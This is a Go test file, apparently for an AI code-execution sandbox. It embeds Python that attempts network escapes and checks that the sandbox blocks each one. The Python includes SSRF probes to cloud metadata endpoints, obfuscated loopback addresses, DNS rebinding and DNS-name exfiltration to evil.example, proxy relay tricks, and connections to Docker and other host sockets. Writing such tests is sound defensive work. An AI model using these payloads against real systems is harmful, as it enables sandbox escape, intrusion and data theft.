package backendtest

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/llmsandbox/llmsandbox"
	"github.com/llmsandbox/llmsandbox/test/abuse"
)

// networkAttacks tries every route to a server of the host, which holds the canary, and to
// names that are not allowed.
const networkAttacks = pythonNetwork + `
hidden = os.environ["HIDDEN"]
port = web.rsplit(":", 1)[1]
def say(b, more=True):
    c = proxy()
    c.settimeout(30)
    c.sendall(b)
    out = b""
    while True:
        try:
            part = c.recv(65536)
        except OSError as e:
            return out + repr(e).encode()
        if not part:
            return out
        out += part
def absolute(host, path="/"):
    return say(f"GET http://{host}{path} HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n".encode())
def tunnel(at, then):
    c = proxy()
    c.settimeout(30)
    c.sendall(f"CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += exactly(c, 1)
    if b" 200 " not in head.split(b"\r\n")[0]:
        return head
    return then(c)
def plain(request):
    def then(c):
        c.sendall(request.encode())
        out = b""
        try:
            while part := c.recv(65536):
                out += part
        except OSError as e:
            out += repr(e).encode()
        return out
    return then
def hello(name):
    def then(c):
        context = ssl._create_unverified_context()
        try:
            with context.wrap_socket(c, server_hostname=name) as t:
                t.sendall(b"GET /hello HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
                return b"REACHED " + t.recv(1000)
        except OSError as e:
            return repr(e).encode()
    return then
# 56: metadata services. 57: the host, in every writing. 63: raw addresses.
for host in ("169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "100.100.100.200", "169.254.169.254.nip.example",
    *(a + ":" + hidden for a in ("127.0.0.1", "2130706433", "0x7f.1", "0177.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0.0.0.0", "[::]", "localhost")),
    "10.0.0.1", "172.17.0.1", "192.168.0.1", "93.184.216.34", "1572395042",
    # 59: an allowed name whose address changes, and one that also has a public address.
    "rebind.test:" + hidden, "rebind.test:" + hidden, "both.test:" + hidden):
    out = absolute(host)
    if b" 403 " not in out.split(b"\r\n")[0]:
        print("56-63", host, out)
# 58: data in names.
for i in range(3):
    name = f"c2VjcmV0{i}.evil.example"
    absolute(name)
    socks(name, 53)
    try:
        print("58", socket.getaddrinfo(name, 53))
    except OSError:
        pass
# 60: another name inside than outside. 61: a host that would relay.
for what, out in {
    "sni": tunnel("tls.test:" + tls.rsplit(":", 1)[1], hello("evil.example")),
    "host": tunnel("web.test:" + port, plain("GET /hello HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")),
    "relay": tunnel("web.test:" + port, plain("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")),
    "url": tunnel("web.test:" + port, plain("GET http://evil.example/hello HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n")),
}.items():
    if b"hello from" in out or b"REACHED" in out:
        print("60-61", what, out)
# 62: a redirection from what is allowed to what is not.
for to in ("http://2130706433:" + hidden + "/", "http://evil.example/", "http://169.254.169.254/"):
    got = get(web + "/redirect?" + to)
    if not got.startswith("403 "):
        print("62", to, got)
# 64: nothing but TCP.
for family, kind, to in ((socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)), (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 443)), (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", echo))):
    try:
        with socket.socket(family, kind) as c:
            c.settimeout(5)
            c.connect(to)
            c.send(b"x")
            print("64", to, c.recv(1))
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print("64 raw socket")
except OSError:
    pass
# 65: sockets of the host's services.
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "\0llmsandbox-canary", os.environ.get("SSH_AUTH_SOCK", "/none")):
    try:
        with socket.socket(socket.AF_UNIX) as c:
            c.connect(path)
            print("65", path)
    except OSError:
        pass
# 69: without the variables, and with other ones.
for variables in ({}, {"http": "http://127.0.0.1:" + hidden}, {"http": "http://192.0.2.1:3128"}):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(variables))
    for url in ("http://127.0.0.1:" + hidden + "/", web + "/hello", "http://93.184.216.34/"):
        try:
            print("69", variables, url, opener.open(url, timeout=5).read())
        except OSError:
            pass
print("still", get(web + "/hello"))
`

// abuse56to69Network: attempts to bypass the rules, at once.
func (s *suite) abuse56to69Network(t *testing.T) {
	h := newHostServers(t)
	hidden := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, abuse.Canary) }))
	t.Cleanup(hidden.Close)
	var mu sync.Mutex
	var lookups []string
	n := h.network(t)
	n.Allow = append(n.Allow, "rebind.test", "both.test", "*.nip.example")
	n.Resolve = func(ctx context.Context, name string) ([]netip.Addr, error) {
		mu.Lock()
		defer mu.Unlock()
		lookups = append(lookups, name)
		switch {
		case name == "both.test":
			return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.IPv6Loopback()}, nil
		case strings.HasPrefix(name, "169.254.169.254."):
			return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
		}
		return resolveTest(ctx, name)
	}
	env := h.env(t)
	env["HIDDEN"] = port(t, hidden.Listener)
	// 65: an abstract socket of the host, which a network namespace of its own hides.
	if l, err := net.Listen("unix", "@llmsandbox-canary"); err == nil {
		t.Cleanup(func() { l.Close() })
	}
	sb := s.open(t, llmsandbox.Options{Network: n, Env: env})
	needs(t, sb, "network")
	res := run(t, sb, networkAttacks, &llmsandbox.RunOptions{Timeout: 2 * time.Minute})
	wantExit(t, res, 0)
	wantStdout(t, res, "still hello from web.test:"+env["WEB_PORT"]+"\n")
	if strings.Contains(res.Stdout+res.Stderr, abuse.Canary) {
		t.Errorf("the canary came out: %.300q, want Stderr without Canary", res.Stdout+res.Stderr)
	}
	for _, a := range res.Network {
		if a.Allowed && a.Name != "web.test" && a.Name != "tls.test" {
			t.Errorf("allowed: %+v, want Allowed false or Name = \"web.test\" or Name = \"tls.test\"", a)
		}
		if !a.Allowed && a.Reason == "" {
			t.Errorf("refused without a reason: %+v, want Allowed true or Reason not empty", a)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if i := slices.IndexFunc(lookups, func(name string) bool { return strings.HasSuffix(name, "evil.example") }); i >= 0 {
		t.Errorf("%s was looked up, want it not there", lookups[i])
	}
}

// abuse66Inbound: what listens inside is not on any address of the host.
func (s *suite) abuse66Inbound(t *testing.T) {
	s.has(t, Servers)
	sb := s.open(t, llmsandbox.Options{})
	needs(t, sb, "network")
	res := run(t, sb, `import subprocess, sys
server = '''
import socket
s = socket.create_server(("0.0.0.0", 28923))
print("listens", flush=True)
while True:
    s.accept()[0].sendall(b"REACHED")
'''
p = subprocess.Popen([sys.executable, "-c", server], stdout=subprocess.PIPE, text=True)
print(p.stdout.readline(), end="")
`, &llmsandbox.RunOptions{KeepChildren: true})
	wantStdout(t, res, "listens\n")
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		n, ok := a.(*net.IPNet)
		if !ok || n.IP.IsLinkLocalUnicast() {
			continue
		}
		c, err := net.DialTimeout("tcp", net.JoinHostPort(n.IP.String(), "28923"), 20*time.Second)
		if err == nil {
			c.Close()
			t.Errorf("the sandbox's server is reached at %s, want an error", n.IP)
		}
	}
	conn, err := sb.Dial(testContext(t), 28923)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	b := make([]byte, 7)
	if _, err := conn.Read(b); err != nil || string(b) != "REACHED" {
		t.Errorf("by Dial: %q, %v, want no error, b = \"REACHED\"", b, err)
	}
}
